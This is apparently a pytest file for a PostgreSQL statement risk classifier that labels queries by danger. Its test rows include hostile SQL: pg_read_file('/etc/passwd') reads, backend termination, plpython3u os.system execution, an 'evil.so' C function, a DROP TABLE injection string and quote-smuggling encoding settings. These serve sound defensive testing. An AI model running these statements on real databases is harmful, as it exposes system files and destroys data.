    row("SELECT database_to_xml(true, false, '')", "SELECT", H),
    row("SELECT table_to_xml('secrets', true, false, '')", "SELECT", M),
    row("SELECT setval('orders_id_seq', 1)", "SELECT", M),
    row("SELECT pg_stat_reset()", "SELECT", M),
    # Wherever the call is.
    row("SELECT id FROM users WHERE pg_sleep(5) IS NOT NULL", "SELECT", M),
    row("SELECT id FROM users ORDER BY pg_terminate_backend(42)", "SELECT", X),
    row("SELECT (SELECT pg_terminate_backend(1))", "SELECT", X),
    row(
        "SELECT * FROM t WHERE id IN (SELECT pg_cancel_backend(pid) FROM pg_stat_activity)",
        "SELECT",
        H,
    ),
    row("SELECT coalesce(pg_read_file('x'), '')", "SELECT", X),
    row("WITH x AS (SELECT pg_terminate_backend(1)) SELECT * FROM x", "SELECT", X),
    row("INSERT INTO loot SELECT pg_read_file('/etc/passwd')", "INSERT", X),
    row("UPDATE t SET a = pg_read_file('/etc/hosts') WHERE id = 1", "UPDATE", X),
    row("DELETE FROM t WHERE id = 1 AND lo_unlink(42) = 1", "DELETE", X),
    row("CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))", "CREATE_TABLE", X),
    row("CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')", "CREATE_VIEW", X),
    row("SELECT * FROM ROWS FROM (pg_ls_dir('.'), generate_series(1, 2))", "SELECT", H),
    row("VALUES (pg_terminate_backend(1))", "SELECT", X),
    row(
        "EXPLAIN SELECT pg_terminate_backend(1)", "EXPLAIN", L, functions=("pg_terminate_backend",)
    ),
]

# What a statement that prepares, explains or runs another statement is.
INDIRECT = [
    row("EXPLAIN DELETE FROM t", "EXPLAIN", L, ("public.t",), category=Category.READ),
    row("EXPLAIN (ANALYZE false) DELETE FROM t", "EXPLAIN", L),
    row("EXPLAIN (COSTS off) UPDATE t SET a = 1", "EXPLAIN", L),
    row(
        "EXPLAIN ANALYZE DELETE FROM t",
        "DELETE",
        X,
        ("public.t",),
        table_destructive=True,
        reason="EXPLAIN ANALYZE executes",
    ),
    row(
        "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1",
        "UPDATE",
        M,
        reason="EXPLAIN ANALYZE executes",
    ),
    row("EXPLAIN (ANALYZE true) INSERT INTO t VALUES (1)", "INSERT", M),
    row("EXPLAIN ANALYZE SELECT * FROM t", "EXPLAIN", L, ("public.t",)),
    row("EXPLAIN ANALYZE SELECT pg_terminate_backend(1)", "EXPLAIN", X),
    row("EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", "CREATE_TABLE", M),
    row(
        "PREPARE del(int) AS DELETE FROM t WHERE id = $1",
        "PREPARE",
        M,
        ("public.t",),
        prepared_name="del",
    ),
    row(
        "PREPARE wipe AS DELETE FROM t", "PREPARE", X, table_destructive=True, prepared_name="wipe"
    ),
    row("PREPARE q AS SELECT * FROM users WHERE id = $1", "PREPARE", L, ("public.users",)),
    row("EXECUTE del(5)", "EXECUTE", M, executes="del", reason="substitute"),
    row("EXECUTE wipe", "EXECUTE", M, executes="wipe"),
    row("EXECUTE q(pg_terminate_backend(1))", "EXECUTE", X),
    row("EXPLAIN ANALYZE EXECUTE wipe", "EXECUTE", M, executes="wipe"),
    row("CREATE TABLE snapshot AS EXECUTE q(1)", "CREATE_TABLE", M, executes="q"),
    row("DEALLOCATE del", "DEALLOCATE", L),
]

PROCEDURAL = [
    row("DO $$ BEGIN RAISE NOTICE 'hello'; END $$", "DO", M, reason="DO runs"),
    row("DO $$ BEGIN PERFORM 1; END $$", "DO", M),
    row(
        "DO $$ BEGIN DELETE FROM t; END $$",
        "DO",
        X,
        ("public.t",),
        table_destructive=True,
        reason="in the DO block: DELETE has no WHERE clause",
    ),
    row(
        "DO $$ BEGIN UPDATE t SET a = 1 WHERE id = 3; END $$",
        "DO",
        M,
        ("public.t",),
        category=Category.WRITE,
    ),
    row(
        "DO $$ BEGIN EXECUTE 'SELECT 1'; END $$",
        "DO",
        H,
        category=Category.UNKNOWN,
        reason="dynamic SQL",
    ),
    row(
        "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
        "DO",
        X,
        ("public.users",),
        reason="the EXECUTEd string: DROP TABLE",
    ),
    row("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$", "DO", H),
    row("DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END $$", "DO", H),
    row("DO $$ BEGIN PERFORM pg_terminate_backend(pid) FROM pg_stat_activity; END $$", "DO", X),
    row(
        "DO $$ DECLARE n int := (SELECT count(*) FROM t); BEGIN n := n + 1; END $$",
        "DO",
        M,
        ("public.t",),
    ),
    row("DO $$ DECLARE n int; BEGIN n := (SELECT pg_read_file('/etc/passwd')); END $$", "DO", X),
    row(
        "DO $$ BEGIN IF (SELECT count(*) FROM t) > 0 THEN TRUNCATE t; END IF; END $$",
        "DO",
        X,
        ("public.t",),
    ),
    row("DO $$ BEGIN SET standard_conforming_strings = off; END $$", "DO", X, lexer_unsafe=True),
    row("DO $$ BEGIN PERFOM 1; END $$", "DO", X, reason="could not be parsed"),
    row("DO LANGUAGE plpython3u $$ import os; os.system('id') $$", "DO", X, reason="plpython3u"),
    row("DO LANGUAGE plperl $$ 1; $$", "DO", H, reason="plperl"),
    row("DO $body$ BEGIN PERFORM '$backstop0$'; DELETE FROM t; END $body$", "DO", X, ("public.t",)),
    row("DO 'BEGIN DELETE FROM t WHERE id = 1; END'", "DO", M, ("public.t",)),
    row(
        "DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'SELECT 1'; END $$",
        "DO",
        H,
        reason="dynamic SQL",
    ),
    row(
        "DO $$ DECLARE a text[]; BEGIN a[1] := (SELECT pg_read_file('/etc/passwd')); END $$",
        "DO",
        X,
        functions=("pg_read_file",),
    ),
    row(
        "DO $$ DECLARE n int; BEGIN n = (SELECT count(*) FROM orders); END $$",
        "DO",
        M,
        ("public.orders",),
    ),
    row(
        "DO $$ BEGIN EXECUTE 'DO $x$ BEGIN DELETE FROM t; END $x$'; END $$",
        "DO",
        X,
        ("public.t",),
        table_destructive=True,
    ),
    row(
        "CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS "
        "$$ BEGIN NEW.updated_at := now(); RETURN NEW; END $$",
        "CREATE_FUNCTION",
        M,
        category=Category.DDL,
    ),
    row(
        "CREATE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$",
        "CREATE_FUNCTION",
        X,
        ("public.t",),
        reason="in the function body: DELETE",
    ),
    row(
        "CREATE OR REPLACE FUNCTION f(p_id int) RETURNS void AS $$ "
        "BEGIN EXECUTE 'DELETE FROM t WHERE id = ' || p_id; END $$ LANGUAGE plpgsql",
        "CREATE_FUNCTION",
        H,
        reason="dynamic SQL",
    ),
    row(
        "CREATE FUNCTION f() RETURNS setof int LANGUAGE plpgsql AS "
        "$$ BEGIN RETURN QUERY EXECUTE 'SELECT 1'; END $$",
        "CREATE_FUNCTION",
        H,
    ),
    row(
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFOM 1; END $$",
        "CREATE_FUNCTION",
        X,
        reason="could not be parsed",
    ),
    row(
        "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t WHERE id = 1; COMMIT; "
        "END $$",
        "CREATE_FUNCTION",
        M,
        ("public.t",),
    ),
    row(
        "CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql AS "
        "'DELETE FROM t WHERE id = a; SELECT 1'",
        "CREATE_FUNCTION",
        M,
        ("public.t",),
    ),
    row("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'TRUNCATE t'", "CREATE_FUNCTION", X),
    row(
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELEC 1'",
        "CREATE_FUNCTION",
        X,
        reason="could not be parsed",
    ),
    row(
        "CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END",
        "CREATE_FUNCTION",
        X,
        ("public.t",),
    ),
    row("CREATE FUNCTION one() RETURNS int LANGUAGE sql RETURN 1", "CREATE_FUNCTION", M),
    row(
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql IMMUTABLE AS $$ SELECT 1 $$",
        "CREATE_FUNCTION",
        M,
    ),
    row(
        "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'evil.so', 'f'",
        "CREATE_FUNCTION",
        X,
        reason="written in c",
    ),
    row(
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$",
        "CREATE_FUNCTION",
        X,
    ),
    row(
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET standard_conforming_strings = off "
        "AS 'SELECT 1'",
        "CREATE_FUNCTION",
        X,
        lexer_unsafe=True,
    ),
]

LEXER = [
    row(
        "SET standard_conforming_strings = off",
        "SET",
        X,
        lexer_unsafe=True,
        reason="read quotes differently",
    ),
    row("SET standard_conforming_strings TO off", "SET", X, lexer_unsafe=True),
    row("SET standard_conforming_strings = false", "SET", X, lexer_unsafe=True),
    row("SET standard_conforming_strings = 0", "SET", X, lexer_unsafe=True),
    row("SET standard_conforming_strings = no", "SET", X, lexer_unsafe=True),
    row("SET standard_conforming_strings = 'off'", "SET", X, lexer_unsafe=True),
    row('SET standard_conforming_strings = "off"', "SET", X, lexer_unsafe=True),
    row("SET LOCAL standard_conforming_strings = off", "SET", X, lexer_unsafe=True),
    row("SET SESSION standard_conforming_strings = off", "SET", X, lexer_unsafe=True),
    row("SET standard_conforming_strings TO DEFAULT", "SET", L, lexer_unsafe=False),
    row("RESET standard_conforming_strings", "RESET", L, lexer_unsafe=False),
    row("SET backslash_quote = on", "SET", X, lexer_unsafe=True),
    row("SET backslash_quote TO true", "SET", X, lexer_unsafe=True),
    row("SET backslash_quote = safe_encoding", "SET", L, lexer_unsafe=False),
    row("SET backslash_quote = off", "SET", L, lexer_unsafe=False),
    row("SET client_encoding = 'SJIS'", "SET", X, lexer_unsafe=True, reason="SJIS"),
    row("SET client_encoding TO 'BIG5'", "SET", X, lexer_unsafe=True),
    row("SET client_encoding = 'gbk'", "SET", X, lexer_unsafe=True),
    row("SET client_encoding = 'Shift_JIS_2004'", "SET", X, lexer_unsafe=True),
    row("SET NAMES 'GB18030'", "SET", X, lexer_unsafe=True),
    row("SET client_encoding = 'LATIN1'", "SET", L, lexer_unsafe=False),
    row("SET NAMES 'UTF8'", "SET", L, lexer_unsafe=False),
    row(
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        "SELECT",
        X,
        lexer_unsafe=True,
    ),
    row(
        "SELECT 1 FROM t WHERE set_config('backslash_quote', 'on', true) IS NOT NULL",
        "SELECT",
        X,
        lexer_unsafe=True,
    ),
    row(
        "SELECT set_config('standard_conforming_strings', current_setting('x'), false)", "SELECT", X
    ),
    row("ALTER ROLE app SET standard_conforming_strings = off", "ALTER_ROLE", X, lexer_unsafe=True),
    row(
        "ALTER ROLE app IN DATABASE d SET backslash_quote TO on", "ALTER_ROLE", X, lexer_unsafe=True
    ),
    row("ALTER DATABASE app SET client_encoding = 'BIG5'", "ALTER_DATABASE", X, lexer_unsafe=True),
    row("ALTER SYSTEM SET standard_conforming_strings = off", "ALTER_SYSTEM", X, lexer_unsafe=True),
    row("ALTER FUNCTION f() SET standard_conforming_strings = off", "ALTER", X, lexer_unsafe=True),
    row("ALTER ROLE app RESET standard_conforming_strings", "ALTER_ROLE", H, lexer_unsafe=False),
]

UNPARSEABLE = [
    row("SELEC 1", "UNPARSEABLE", X, (), category=Category.UNKNOWN, reason="could not be parsed"),
    row("DELETE FROM", "UNPARSEABLE", X),
    row("DROP TABLE", "UNPARSEABLE", X),
    row("SELECT 'unterminated", "UNPARSEABLE", X),
    row("'; DROP TABLE users; --", "UNPARSEABLE", X),
    row("SELECT 1; DELETE", "UNPARSEABLE", X),
]

ALL_ROWS = BENIGN + WRITES + DDL + DCL_AND_SESSION + ADMIN + FUNCTIONS + INDIRECT + PROCEDURAL
ALL_ROWS += LEXER + UNPARSEABLE


@pytest.mark.parametrize(("sql", "operation", "risk", "tables", "expect"), ALL_ROWS)
def test_statement(
    sql: str, operation: str, risk: Risk, tables: Any, expect: dict[str, Any]
) -> None:
    (c,) = Classifier().classify(sql)
    check(c, operation, risk, tables, expect)


@pytest.mark.parametrize(
    "sql",
    [
        "DO $$ BEGIN NULL; END $$",
        "DO $$ BEGIN RAISE NOTICE 'x'; END $$",
        "DO $$ DECLARE x int := 1; BEGIN x := x + 1; END $$",
    ],
)
def test_a_do_block_is_never_low(sql: str) -> None:
    (c,) = classify(sql)
    assert c.operation == "DO"
    assert c.risk >= Risk.MEDIUM


# --------------------------------------------------------------------------------------
# Several statements in one string.


def test_several_statements_give_one_classification_each_and_worst_is_the_max() -> None:
    cs = classify("SELECT 1; UPDATE t SET a = 1 WHERE id = 2; DROP TABLE users")
    assert [c.operation for c in cs] == ["SELECT", "UPDATE", "DROP_TABLE"]
    assert [c.risk for c in cs] == [Risk.LOW, Risk.MEDIUM, Risk.CRITICAL]
    assert worst(cs) is Risk.CRITICAL


def test_each_statement_carries_its_own_text() -> None:
    cs = classify("  SELECT 'é' ;\n/* note */ DELETE FROM ü WHERE id = 1;\n-- done\nSELECT 2  ")
    assert [c.sql for c in cs] == ["SELECT 'é'", "DELETE FROM ü WHERE id = 1", "SELECT 2"]
    assert cs[1].tables == ("public.ü",)


def test_a_multibyte_prefix_does_not_shift_later_statements() -> None:
    cs = classify("SELECT '日本語テキスト'; TRUNCATE orders")
    assert cs[1].sql == "TRUNCATE orders"
    assert cs[1].operation == "TRUNCATE"


def test_an_attack_after_a_harmless_statement_is_seen() -> None:
    cs = classify("SELECT * FROM users WHERE id = 1; DELETE FROM users")
    assert worst(cs) is Risk.CRITICAL
    assert cs[1].table_destructive


def test_worst_of_nothing_is_low() -> None:
    assert worst(()) is Risk.LOW


@pytest.mark.parametrize("sql", ["", "   ", "-- only a comment", "/* block */", ";", " ; ;\n"])
def test_text_without_a_statement_gives_nothing(sql: str) -> None:
    assert classify(sql) == ()


# --------------------------------------------------------------------------------------
# Table names.


@pytest.mark.parametrize(
    ("search_path", "expected"),
    [
        (("public",), ("public.orders", "audit.log")),
        (("$user", "app", "public"), ("app.orders", "audit.log")),
        (('"$user"', "sales"), ("sales.orders", "audit.log")),
        (('"My Schema"',), ("My Schema.orders", "audit.log")),
        ((), ("orders", "audit.log")),
        (("$user",), ("orders", "audit.log")),
    ],
)
def test_unqualified_names_take_the_first_schema_of_the_search_path(
    search_path: tuple[str, ...], expected: tuple[str, ...]
) -> None:
    (c,) = Classifier().classify(
        "INSERT INTO orders SELECT * FROM audit.log", search_path=search_path
    )
    assert c.tables == expected


def test_a_list_is_accepted_as_search_path() -> None:
    (c,) = Classifier().classify("SELECT * FROM t", search_path=["app"])  # type: ignore[arg-type]
    assert c.tables == ("app.t",)


def test_set_search_path_changes_the_schema_of_later_statements_in_the_string() -> None:
    cs = classify(
        "SET search_path = evil, public; DELETE FROM t WHERE id = 1; RESET search_path; "
        "DELETE FROM t WHERE id = 2"
    )
    assert cs[1].tables == ("evil.t",)
    assert cs[3].tables == ("public.t",)


def test_quoted_names_keep_their_case_and_unquoted_ones_fold() -> None:
    (c,) = classify('SELECT * FROM "Sales"."Orders" JOIN Customers ON true')
    assert c.tables == ("Sales.Orders", "public.customers")


@pytest.mark.parametrize(
    ("sql", "tables"),
    [
        ("WITH x AS (SELECT * FROM orders) SELECT * FROM x", ("public.orders",)),
        ("WITH x AS (SELECT 1), y AS (SELECT * FROM x) SELECT * FROM y", ()),
        # A CTE is visible only after it is defined: here `secrets` in x is the table.
        (
            "WITH x AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM x, secrets",
            ("public.secrets",),
        ),
        # A non-recursive CTE's own name inside it is the table it shadows.
        ("WITH users AS (SELECT * FROM users WHERE active) SELECT * FROM users", ("public.users",)),
        # A CTE in a subquery does not hide the table outside it.
        (
            "SELECT * FROM users, (WITH users AS (SELECT 1) SELECT * FROM users) s",
            ("public.users",),
        ),
        ("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r", ()),
        ("WITH x AS (SELECT 1) SELECT * FROM public.x", ("public.x",)),
    ],
)
def test_cte_names_are_not_tables(sql: str, tables: tuple[str, ...]) -> None:
    (c,) = classify(sql)
    assert c.tables == tables


def test_a_cte_named_like_the_target_does_not_hide_the_target() -> None:
    (c,) = classify("DELETE FROM users WHERE id IN (WITH users AS (SELECT 1) SELECT * FROM users)")
    assert c.targets == ("public.users",)
    (c,) = classify("WITH t AS (SELECT 1 AS id) UPDATE t SET id = 2")
    assert c.targets == ("public.t",)
    assert c.risk is Risk.CRITICAL


def test_a_classification_is_a_frozen_value_the_gateway_can_extend() -> None:
    (c,) = classify("DELETE FROM t WHERE id = 1")
    with pytest.raises(dataclasses.FrozenInstanceError):
        c.risk = Risk.LOW  # type: ignore[misc]
    estimated = dataclasses.replace(c, row_estimate=12)
    assert estimated.row_estimate == 12
    assert (estimated.tables, estimated.risk, c.row_estimate) == (c.tables, c.risk, None)
    assert dataclasses.replace(c) == c
    assert hash(dataclasses.replace(c)) == hash(c)


def test_functions_are_lower_case_and_listed_once() -> None:
    (c,) = classify("SELECT Lower(name), LOWER(email), count(*) FROM users")
    assert c.functions == ("lower", "count")


# --------------------------------------------------------------------------------------
# The cache.


def test_a_statement_seen_before_returns_the_identical_classification() -> None:
    classifier = Classifier()
    first = classifier.classify("DELETE FROM t WHERE id = 1")
    assert classifier.classify("DELETE FROM t WHERE id = 1") is first


def test_the_search_path_is_part_of_the_cache_key() -> None:
    classifier = Classifier()
    (a,) = classifier.classify("SELECT * FROM t", ("public",))
    (b,) = classifier.classify("SELECT * FROM t", ("app",))
    assert (a.tables, b.tables) == (("public.t",), ("app.t",))


def test_a_cached_statement_is_not_parsed_again(monkeypatch: pytest.MonkeyPatch) -> None:
    classifier = Classifier()
    classifier.classify("SELECT 1")

    def no_parsing(sql: str) -> str:
        raise AssertionError("parsed again")

    monkeypatch.setattr(classify_module, "parse_sql_json", no_parsing)
    assert classifier.classify("SELECT 1")[0].operation == "SELECT"


def test_the_cache_stays_within_its_size() -> None:
    classifier = Classifier(cache_size=3)
    seen = [classifier.classify(f"SELECT * FROM t{i}") for i in range(10)]
    assert len(classifier) == 3
    assert classifier.classify("SELECT * FROM t9") is seen[9]  # the newest entries survive
    assert classifier.classify("SELECT * FROM t0") is not seen[0]  # the oldest went
    assert classifier.classify("SELECT * FROM t0") == seen[0]


def test_statements_that_differ_only_in_literals_are_parsed_once(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    classifier = Classifier()
    # Forms are computed for one statement in eight until one pays off: a stream of one
    # form is recognised within the first sixteen statements.
    for aid in range(16):
        classifier.classify(f"  SELECT abalance FROM pgbench_accounts WHERE aid = {aid};\n")
    (first,) = classifier.classify("  SELECT abalance FROM pgbench_accounts WHERE aid = 1;\n")

    def no_parsing(sql: str) -> str:
        raise AssertionError("parsed again")

    monkeypatch.setattr(classify_module, "parse_sql_json", no_parsing)
    for aid in range(100, 200):
        (other,) = classifier.classify(
            f"  SELECT abalance FROM pgbench_accounts WHERE aid = {aid};\n"
        )
        assert other.sql == f"SELECT abalance FROM pgbench_accounts WHERE aid = {aid}"
        assert dataclasses.replace(other, sql=first.sql) == first


@pytest.mark.parametrize(
    ("harmless", "dangerous"),
    [
        ("DELETE FROM t WHERE 1 = 2", "DELETE FROM t WHERE 1 = 1"),
        ("DELETE FROM t WHERE id = 5 OR false", "DELETE FROM t WHERE id = 5 OR true"),
        ("UPDATE t SET a = 1 WHERE false", "UPDATE t SET a = 1 WHERE true"),
        ("DELETE FROM t WHERE name LIKE 'a%'", "DELETE FROM t WHERE name LIKE '%'"),
        ("DELETE FROM t WHERE id = 1 OR 'a' = 'b'", "DELETE FROM t WHERE id = 1 OR 'a' = 'a'"),
        ("DELETE FROM t WHERE NULL IS NOT NULL", "DELETE FROM t WHERE 1 IS NOT NULL"),
        (
            "SELECT set_config('application_name', 'x', false)",
            "SELECT set_config('standard_conforming_strings', 'off', false)",
        ),
        (
            "SELECT set_config('application_name', 'x', false)",
            "SELECT set_config('role', 'x', false)",
        ),
    ],
)
def test_a_literal_that_decides_keeps_its_statement_out_of_the_shared_form(
    harmless: str, dangerous: str
) -> None:
    classifier = Classifier()
    for _ in range(2):
        classifier.classify(harmless)
    assert classifier.classify(dangerous) == Classifier(cache_size=0).classify(dangerous)
    assert classifier.classify(dangerous)[0].risk > classifier.classify(harmless)[0].risk


_LITERALS = ["0", "1", "2", "true", "false", "NULL", "'%'", "'a%'", "'a'", "'role'", "1.5"]
_LITERALS += ["'standard_conforming_strings'", "'off'", "'DROP TABLE users'", "'search_path'"]
_LITERALS += ["B'101'", "X'1F'", "-1", "'t'", "'x'::int", "'1'::int", "'1 day'::interval"]


# For the markers of `literal_form`, which replaces typmods and ordinals too (varchar(10),
# ORDER BY 1): literals of the marker's kind.
_MARKED = {
    STRING_MARK: ["'%'", "'a%'", "'a'", "'role'", "'off'", "'search_path'", "''", "'t'"],
    INTEGER_MARK: ["0", "1", "2", "3", "10", "99999999999"],
    NUMBER_MARK: ["1.5", "0.0", "1e3", "2.5e-1"],
}
_MARKED[STRING_MARK] += ["'standard_conforming_strings'", "'DROP TABLE users'", "'1 day'"]


def _variants(sql: str, rng: Any, n: int) -> list[str]:
    """`sql` with its literals replaced by others, as many as parse: in the places
    pglast's `normalize` finds literals, and in those `literal_form` does."""
    from pglast.parser import ParseError, normalize, parse_sql_json

    try:
        form = normalize(sql)
    except ParseError:
        return []
    slots = sorted({int(m) for m in re.findall(r"\$(\d+)", form)}, reverse=True)
    marked = literal_form(sql)
    out = []
    for _ in range(n):
        text = form
        for k in slots:
            text = text.replace(f"${k}", rng.choice(_LITERALS))
        texts = [text]
        if marked is not None:
            pieces = re.split(r"(\$[sin])", marked)
            texts.append("".join(rng.choice(_MARKED[p]) if p in _MARKED else p for p in pieces))
        for text in texts:
            try:
                parse_sql_json(text)
            except ParseError:
                continue
            out.append(text)
    return out


def test_a_shared_form_never_changes_what_a_statement_is_classified_as() -> None:
    """Every statement of the table, with its literals swapped for others (true/false, 1/2,
    '%', setting names): a classifier that has seen its neighbours says what a fresh one
    says."""
    import random

    rng = random.Random(7)
    checked = 0
    for param in ALL_ROWS:
        sql = param.values[0]
        if "$" in sql:
            continue
        variants = _variants(sql, rng, 12)
        if not variants:
            continue
        classifier = Classifier()
        classifier.classify(sql)
        for text in variants:
            classifier.classify(text)
        for text in [sql, *variants]:
            assert classifier.classify(text) == Classifier(cache_size=0).classify(text), text
            checked += 1
    assert checked > 500


def test_a_classifier_without_cache_still_classifies() -> None:
    classifier = Classifier(cache_size=0)
    assert classifier.classify("TRUNCATE t")[0].risk is Risk.CRITICAL
    assert len(classifier) == 0


def test_the_module_function_shares_one_cache() -> None:
    first = classify("SELECT 'shared cache'")
    assert classify("SELECT 'shared cache'") is first


# --------------------------------------------------------------------------------------
# Failing closed.


def test_unparseable_sql_is_one_critical_classification_with_the_parser_message() -> None:
    (c,) = classify("SELECT * FRM users")
    assert c.operation == "UNPARSEABLE"
    assert c.category is Category.UNKNOWN
    assert c.risk is Risk.CRITICAL
    assert c.reasons[0].startswith("could not be parsed")
    assert "FRM" in c.reasons[0] or "syntax error" in c.reasons[0]
    assert c.sql == "SELECT * FRM users"


def test_one_bad_statement_makes_the_whole_string_unparseable() -> None:
    cs = classify("SELECT 1; DELETE FROM t WHERE; SELECT 2")
    assert len(cs) == 1
    assert cs[0].operation == "UNPARSEABLE"


def test_a_nul_character_is_unparseable() -> None:
    (c,) = classify("SELECT 1\x00; DROP TABLE users")
    assert c.operation == "UNPARSEABLE"
    assert c.risk is Risk.CRITICAL


def test_text_that_is_not_valid_unicode_is_unparseable() -> None:
    (c,) = classify("SELECT '\udc80'")
    assert c.operation == "UNPARSEABLE"


def test_a_bug_in_the_classifier_gives_a_critical_classification_not_an_exception(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def broken(*args: Any) -> Any:
        raise KeyError("boom")

    monkeypatch.setitem(classify_module._HANDLERS, "DeleteStmt", broken)
    cs = Classifier().classify("SELECT 1; DELETE FROM t WHERE id = 1")
    assert cs[0].risk is Risk.LOW
    assert cs[1].risk is Risk.CRITICAL
    assert cs[1].operation == "UNPARSEABLE"
    assert cs[1].reasons[0].startswith("classifier error:")


def test_a_statement_type_backstop_does_not_know_is_not_low(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # What a newer grammar could hand us: a statement type this code has never seen.
    tree = {"version": 190000, "stmts": [{"stmt": {"TeleportStmt": {"target": "mars"}}}]}
    monkeypatch.setattr(classify_module, "parse_sql_json", lambda sql: json.dumps(tree))
    (c,) = Classifier().classify("TELEPORT mars")
    assert c.risk >= Risk.MEDIUM
    assert "statement type TeleportStmt is not known to Backstop" in c.reasons


# --------------------------------------------------------------------------------------
# PREPARE / EXECUTE.


def test_prepare_carries_the_inner_classification() -> None:
    (c,) = classify("PREPARE wipe(int) AS DELETE FROM orders WHERE id > $1 OR true")
    assert c.operation == "PREPARE"
    assert c.prepared_name == "wipe"
    assert c.prepared is not None
    assert c.prepared.operation == "DELETE"
    assert c.prepared.unbounded
    assert c.risk is c.prepared.risk is Risk.CRITICAL


def test_execute_names_what_the_session_must_substitute() -> None:
    (c,) = classify("EXECUTE wipe(10)")
    assert c.executes == "wipe"
    assert c.prepared is None
    assert c.risk is Risk.MEDIUM


# --------------------------------------------------------------------------------------
# Lexer safety for settings the server reports.


@pytest.mark.parametrize(
    ("name", "value", "unsafe"),
    [
        ("standard_conforming_strings", "on", False),
        ("standard_conforming_strings", "off", True),
        ("standard_conforming_strings", "OFF", True),
        ("standard_conforming_strings", "false", True),
        ("standard_conforming_strings", "0", True),
        ("standard_conforming_strings", "true", False),
        ("Standard_Conforming_Strings", "off", True),
        ("backslash_quote", "safe_encoding", False),
        ("backslash_quote", "off", False),
        ("backslash_quote", "on", True),
        ("backslash_quote", "yes", True),
        ("client_encoding", "UTF8", False),
        ("client_encoding", "UTF-8", False),
        ("client_encoding", "unicode", False),
        ("client_encoding", "SQL_ASCII", False),
        ("client_encoding", "LATIN9", False),
        ("client_encoding", "WIN1252", False),
        ("client_encoding", "EUC_JP", False),
        ("client_encoding", "SJIS", True),
        ("client_encoding", "Shift_JIS", True),
        ("client_encoding", "BIG5", True),
        ("client_encoding", "GBK", True),
        ("client_encoding", "GB18030", True),
        ("client_encoding", "JOHAB", True),
        ("client_encoding", "UHC", True),
        ("client_encoding", "WIN950", True),
        ("client_encoding", "klingon", True),
        ("application_name", "off", False),
        ("DateStyle", "ISO, MDY", False),
    ],
)
def test_lexer_unsafe_setting(name: str, value: str, unsafe: bool) -> None:
    reason = lexer_unsafe_setting(name, value)
    if unsafe:
        assert reason is not None
        assert "read quotes differently" in reason
    else:
        assert reason is None


def test_the_unsafe_parameters_are_exported() -> None:
    assert {"standard_conforming_strings", "backslash_quote", "client_encoding"} <= set(
        UNSAFE_PARAMETERS
    )
